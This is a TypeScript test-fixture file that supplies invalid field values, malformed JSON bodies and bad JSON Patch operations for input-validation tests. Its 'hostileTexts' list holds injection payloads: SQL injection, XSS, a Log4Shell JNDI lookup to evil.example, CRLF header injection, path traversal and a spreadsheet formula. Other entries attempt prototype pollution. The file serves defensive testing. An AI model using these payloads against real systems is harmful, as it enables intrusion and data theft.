// Values that no field of a kind can take, and texts that try to be more than text.
import type { Field, FieldKind } from '@eos/contract/fields/field'

export const loneSurrogate = 'x\ud800y'
export const nulCharacter = 'x\u0000y'

const notText = [{}, ['x'], nulCharacter, loneSurrogate]
const notNumber = ['1,5', '0x1', 'x', true, {}, [1]]
const notMoment = ['yesterday', {}, [], true, '2026-13-01T00:00:00Z', nulCharacter]
const notId = [true, {}, { href: {} }, [[]], 'no-such-id', -1, 1.5, nulCharacter, loneSurrogate]
const notList = ['x', 5, true, {}, [{}], [[]], [null]]

const wrong: Record<FieldKind, (field: Field) => unknown[]> = {
  text: ({ options }) => [...notText, 'x'.repeat((options.max ?? 2000) + 1)],
  html: ({ options }) => [...notText, 'x'.repeat((options.max ?? 200_000) + 1)],
  number: ({ options }) => [...notNumber, ...outside(options)],
  integer: ({ options }) => [...notNumber, 1.5, '300.5', 2 ** 31, 1e300, ...outside(options)],
  flag: () => ['yes', 2, {}, []],
  choice: () => ['no such choice', -1, {}, ['x'], '__proto__', nulCharacter],
  choices: () => [...notList, ['no such choice'], ['__proto__']],
  instant: () => [...notMoment, 9e99],
  date: () => [...notMoment, 5, '2026-02-30'],
  reference: () => notId,
  references: () => [...notList, ['no-such-id'], [nulCharacter]],
  texts: () => [...notList, [{}], [nulCharacter], [loneSurrogate], Array(501).fill('x.example')],
  rows: () => notList,
  file: () => [...notId, {}, '999999999'],
  files: () => [...notList, ['no-such-id'], ['999999999']],
  record: () => [],
}

export function wrongValues(field: Field): unknown[] {
  return wrong[field.kind](field)
}

/** They are words like others: kept as they are, or refused. */
export const hostileTexts = [
  `'; drop table station; --`,
  `") or 1=1 --`,
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/x}',
  '{{7*7}}',
  '%00%0d%0aSet-Cookie: a=b',
  '../../etc/passwd',
  '\u202egnp.exe',
  '=cmd|calc!A1',
]

/** Each is JSON, yet none is an item. */
export const strangeBodies: [what: string, body: string][] = [
  ['nothing', ''],
  ['blanks', '   '],
  ['null', 'null'],
  ['a list', '[]'],
  ['a text', '"x"'],
  ['a number', '5'],
  ['half an object', '{'],
  ['a comma too many', '{"name":"x",}'],
  ['not a number', '{"name":NaN}'],
  ['lists in lists, ten thousand deep', `${'['.repeat(10_000)}${']'.repeat(10_000)}`],
  ['objects in objects, ten thousand deep', `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`],
  ['a NUL byte', '{"name":"\u0000"}'],
]

/** Deeply nested values for a field of an otherwise good item. */
export const deepValues = [
  `${'['.repeat(10_000)}${']'.repeat(10_000)}`,
  `${'{"id":'.repeat(10_000)}1${'}'.repeat(10_000)}`,
]

const add = (path: unknown, value: unknown = { polluted: true }) => [{ op: 'add', path, value }]

export const badPatches: [what: string, patch: unknown][] = [
  ['no list', { op: 'remove', path: '/name' }],
  ['no operation', [5]],
  ['nothing for an operation', [null]],
  ['a pointer without its slash', add('name')],
  ['no pointer', [{ op: 'remove' }]],
  ['a number for a pointer', add(5)],
  ['a pointer into a text', add('/createdAt/0')],
  ['a pointer to nowhere', [{ op: 'replace', path: '/nowhere', value: 1 }]],
  ['a pointer into the prototype', add('/__proto__/polluted')],
  ['a pointer into the constructor', add('/constructor/prototype/polluted')],
  ['no source', [{ op: 'copy', path: '/name' }]],
  ['a source in the prototype', [{ op: 'copy', from: '/__proto__', path: '/name' }]],
  ['no value', [{ op: 'add', path: '/name' }]],
  ['the whole item away', [{ op: 'remove', path: '' }]],
  ['a list for the whole item', [{ op: 'replace', path: '', value: [] }]],
  ...['constructor', 'valueOf', 'toString', '__proto__', 'hasOwnProperty', ''].map(
    (op): [string, unknown] => [`the operation “${op}”`, [{ op, path: '/name', value: 'x' }]],
  ),
  [
    'copies of copies of copies',
    Array.from({ length: 60 }, (_, step) => ({ op: 'copy', from: '', path: `/copy${step}` })),
  ],
  [
    'more steps than anybody takes',
    Array.from({ length: 20_000 }, () => ({ op: 'test', path: '/id', value: 'x' })),
  ],
  [
    'a value ten thousand deep',
    `[{"op":"add","path":"/name","value":${'['.repeat(10_000)}${']'.repeat(10_000)}}]`,
  ],
]

function outside({ min, max }: { min?: number; max?: number }): number[] {
  return [...(min === undefined ? [] : [min - 1]), ...(max === undefined ? [] : [max + 1])]
}
